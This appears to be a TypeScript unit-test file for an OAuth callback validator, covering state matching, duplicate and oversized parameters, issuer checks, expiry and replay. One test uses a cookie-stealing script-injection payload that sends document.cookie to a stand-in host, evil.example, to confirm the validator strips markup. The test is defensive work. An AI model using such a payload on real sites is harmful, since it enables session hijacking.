import * as assert from 'node:assert/strict';
import {
  CALLBACK_LIMITS,
  validateCallback,
  type CallbackContext,
  type CallbackVerdict,
  type WaitingAuthorization,
} from '../../../../src/core/protocol/callback';
import { ProviderError } from '../../../../src/core/errors/oauthError';

const NOW = 1_700_000_000_000;
const REAL: WaitingAuthorization = {
  state: 'real-state-0123456789abcdefghijklmnopqrstuv',
  redirectUri: 'http://localhost:5000/callback',
  issuer: 'https://idp.example.com',
  createdAt: NOW - 1000,
  expiresAt: NOW + 299_000,
};

function context(overrides: Partial<CallbackContext> = {}): CallbackContext {
  return { waiting: [REAL], finished: [], now: NOW, ...overrides };
}

function expectKind<K extends CallbackVerdict['kind']>(verdict: CallbackVerdict, kind: K): Extract<CallbackVerdict, { kind: K }> {
  assert.equal(verdict.kind, kind, verdict.kind === 'accept' ? 'accepted' : `${verdict.kind}: ${verdict.error.message}`);
  return verdict as Extract<CallbackVerdict, { kind: K }>;
}

describe('validateCallback', () => {
  it('accepts a code for the waiting state and hands back the redirect URI', () => {
    const verdict = expectKind(validateCallback(new URLSearchParams({ code: 'the-code', state: REAL.state }), context()), 'accept');
    assert.deepEqual(verdict.authorization, { code: 'the-code', state: REAL.state, redirectUri: REAL.redirectUri });
  });

  it('accepts a plain record as well as URLSearchParams', () => {
    expectKind(validateCallback({ code: 'the-code', state: REAL.state }, context()), 'accept');
  });

  it('ignores a response without state: state_mismatch while a request waits', () => {
    const verdict = expectKind(validateCallback(new URLSearchParams({ code: 'c' }), context()), 'ignore');
    assert.equal(verdict.error.code, 'state_mismatch');
    assert.match(verdict.error.message, /no state parameter/);
  });

  it('ignores a response when nothing waits: no_pending_authorization', () => {
    const verdict = expectKind(validateCallback(new URLSearchParams({ code: 'c', state: 's' }), context({ waiting: [] })), 'ignore');
    assert.equal(verdict.error.code, 'no_pending_authorization');
    assert.match(verdict.error.message, /Authorize App/);
  });

  it('ignores an unknown state without touching the waiting request', () => {
    const verdict = expectKind(validateCallback(new URLSearchParams({ code: 'c', state: 'forged' }), context()), 'ignore');
    assert.equal(verdict.error.code, 'state_mismatch');
  });

  it('ignores a state that differs only in its last character', () => {
    const nearMiss = `${REAL.state.slice(0, -1)}w`;
    assert.equal(validateCallback({ code: 'c', state: nearMiss }, context()).kind, 'ignore');
  });

  it('ignores a response with two state values, even if one is right', () => {
    const parameters = new URLSearchParams([['code', 'c'], ['state', REAL.state], ['state', 'other']]);
    const verdict = expectKind(validateCallback(parameters, context()), 'ignore');
    assert.equal(verdict.error.code, 'invalid_callback');
    assert.match(verdict.error.message, /2 state parameters/);
  });

  it('fails the request when its response repeats code, error or iss', () => {
    for (const name of ['code', 'error', 'iss']) {
      const parameters = new URLSearchParams([['state', REAL.state], ['code', 'c'], [name, 'one'], [name, 'two']]);
      const verdict = expectKind(validateCallback(parameters, context()), 'fail');
      assert.equal(verdict.error.code, 'invalid_callback');
      assert.match(verdict.error.message, new RegExp(`"${name}" parameter more than once`));
    }
  });

  it('rejects oversized values', () => {
    const longState = validateCallback({ code: 'c', state: 's'.repeat(CALLBACK_LIMITS.state + 1) }, context());
    assert.equal(expectKind(longState, 'ignore').error.code, 'invalid_callback');

    const longCode = validateCallback({ code: 'c'.repeat(CALLBACK_LIMITS.code + 1), state: REAL.state }, context());
    assert.match(expectKind(longCode, 'fail').error.message, /code parameter is longer than 4096/);

    const longIss = validateCallback({ code: 'c', state: REAL.state, iss: `https://${'i'.repeat(3000)}` }, context());
    assert.equal(expectKind(longIss, 'fail').error.code, 'invalid_callback');
  });

  it('ignores a response with an absurd number of parameters', () => {
    const parameters = new URLSearchParams({ code: 'c', state: REAL.state });
    for (let index = 0; index < CALLBACK_LIMITS.parameterCount; index += 1) {
      parameters.append(`p${index}`, 'x');
    }
    assert.equal(expectKind(validateCallback(parameters, context()), 'ignore').error.code, 'invalid_callback');
  });

  it('turns a provider error into that error, with markup in the description neutralised', () => {
    const verdict = expectKind(
      validateCallback(
        {
          state: REAL.state,
          error: 'access_denied',
          error_description: '<script>document.location="https://evil.example/?"+document.cookie</script>The user <b>cancelled</b>',
          error_uri: 'https://idp.example.com/help',
        },
        context(),
      ),
      'fail',
    );
    assert.equal(verdict.error.code, 'access_denied');
    assert.equal(verdict.error.description, 'The user cancelled');
    assert.equal(verdict.error.uri, 'https://idp.example.com/help');
    assert.match(verdict.error.hint, /Consent was denied/);
  });

  it('reads SKY API\'s error_message beside access_denied as the provider\'s explanation', () => {
    // blackbaud/sky-api-docs, content/docs/authorization/common-auth-issues/index.md, "User denied access".
    const verdict = expectKind(
      validateCallback(
        { state: REAL.state, error: 'access_denied', error_message: 'The user chose not to give your app access to their Blackbaud data.' },
        context(),
      ),
      'fail',
    );
    assert.ok(verdict.error instanceof ProviderError && verdict.error.fromErrorResponse);
    assert.equal(verdict.error.description, 'The user chose not to give your app access to their Blackbaud data.');
    assert.match(verdict.error.message, /^The provider answered access_denied: The user chose not to give your app access/);
    const doubled = validateCallback(new URLSearchParams(`state=${REAL.state}&error=access_denied&error_message=a&error_message=b`), context());
    assert.equal(expectKind(doubled, 'fail').error.code, 'invalid_callback');
  });

  it('lets an error win over a code in the same response', () => {
    const verdict = validateCallback({ state: REAL.state, code: 'c', error: 'server_error' }, context());
    assert.equal(expectKind(verdict, 'fail').error.code, 'server_error');
  });

  it('fails a response that has neither code nor error', () => {
    assert.equal(expectKind(validateCallback({ state: REAL.state }, context()), 'fail').error.code, 'invalid_callback');
  });

  it('checks iss against the configured issuer (RFC 9207)', () => {
    const mismatch = validateCallback({ code: 'c', state: REAL.state, iss: 'https://evil.example' }, context());
    const error = expectKind(mismatch, 'fail').error;
    assert.equal(error.code, 'issuer_mismatch');
    assert.match(error.message, /evil\.example.*idp\.example\.com/);

    const match = validateCallback({ code: 'c', state: REAL.state, iss: 'https://idp.example.com' }, context());
    assert.equal(expectKind(match, 'accept').authorization.iss, 'https://idp.example.com');
  });

  it('accepts a response without iss even when an issuer is configured', () => {
    assert.equal(expectKind(validateCallback({ code: 'c', state: REAL.state }, context()), 'accept').authorization.iss, undefined);
  });

  it('with requireIssuer, refuses a response without iss, errors included, and still accepts the right iss', () => {
    const strict: WaitingAuthorization = { ...REAL, requireIssuer: true };
    const responses: Record<string, string>[] = [{ code: 'c', state: REAL.state }, { error: 'access_denied', state: REAL.state }];
    for (const parameters of responses) {
      const error = expectKind(validateCallback(parameters, context({ waiting: [strict] })), 'fail').error;
      assert.equal(error.code, 'issuer_missing');
      assert.match(error.message, /no iss parameter/);
      assert.match(error.message, /authCodeFlow\.requireIssuer/);
    }
    const verdict = validateCallback({ code: 'c', state: REAL.state, iss: REAL.issuer ?? '' }, context({ waiting: [strict] }));
    assert.equal(expectKind(verdict, 'accept').authorization.iss, REAL.issuer);
  });

  it('with requireIssuer but no configured issuer, refuses every response: there is nothing to compare iss with', () => {
    const strict: WaitingAuthorization = { ...REAL, requireIssuer: true };
    delete strict.issuer;
    const error = expectKind(validateCallback({ code: 'c', state: REAL.state, iss: 'https://any.example' }, context({ waiting: [strict] })), 'fail').error;
    assert.equal(error.code, 'issuer_missing');
    assert.match(error.message, /the app's "issuer" in authCodeFlow\.apps/);
  });

  it('required by the app\'s metadata (RFC 9207 §3), refuses a response without iss and says why in the metadata\'s words', () => {
    const strict: WaitingAuthorization = { ...REAL, requireIssuer: true, issuerRequiredBy: 'metadata' };
    const error = expectKind(validateCallback({ code: 'c', state: REAL.state }, context({ waiting: [strict] })), 'fail').error;
    assert.equal(error.code, 'issuer_missing');
    assert.match(error.message, /authorization_response_iss_parameter_supported/);
    assert.doesNotMatch(error.message, /authCodeFlow\.requireIssuer/);
    const wrong = expectKind(validateCallback({ code: 'c', state: REAL.state, iss: 'https://other.example' }, context({ waiting: [strict] })), 'fail').error;
    assert.equal(wrong.code, 'issuer_mismatch');
    assert.equal(expectKind(validateCallback({ code: 'c', state: REAL.state, iss: REAL.issuer ?? '' }, context({ waiting: [strict] })), 'accept').state, REAL.state);
  });

  it('passes iss through when no issuer is configured', () => {
    const withoutIssuer: WaitingAuthorization = { ...REAL };
    delete withoutIssuer.issuer;
    const verdict = validateCallback({ code: 'c', state: REAL.state, iss: 'https://other.example' }, context({ waiting: [withoutIssuer] }));
    assert.equal(expectKind(verdict, 'accept').authorization.iss, 'https://other.example');
  });

  it('fails a request whose response arrives after it expired', () => {
    const verdict = validateCallback({ code: 'c', state: REAL.state }, context({ now: REAL.expiresAt }));
    const error = expectKind(verdict, 'fail').error;
    assert.equal(error.code, 'authorization_expired');
    assert.match(error.message, /5-minute limit/);
  });

  it('names a replay as a replay', () => {
    const verdict = validateCallback(
      { code: 'c', state: REAL.state },
      context({ waiting: [], finished: [{ state: REAL.state, reason: 'completed' }] }),
    );
    const error = expectKind(verdict, 'ignore').error;
    assert.equal(error.code, 'callback_replayed');
    assert.match(error.message, /already received/);
  });

  it('explains a late response for an expired or cancelled request', () => {
    const expired = validateCallback({ code: 'c', state: 'old' }, context({ finished: [{ state: 'old', reason: 'expired' }] }));
    assert.equal(expectKind(expired, 'ignore').error.code, 'authorization_expired');
    const cancelled = validateCallback({ code: 'c', state: 'old' }, context({ finished: [{ state: 'old', reason: 'cancelled' }] }));
    assert.match(expectKind(cancelled, 'ignore').error.message, /cancelled/);
  });

  it('picks the right request among several waiting', () => {
    const other: WaitingAuthorization = { ...REAL, state: 'other-state', redirectUri: 'vscode://x/callback' };
    const verdict = validateCallback({ code: 'c', state: 'other-state' }, context({ waiting: [REAL, other] }));
    assert.equal(expectKind(verdict, 'accept').authorization.redirectUri, 'vscode://x/callback');
  });
});
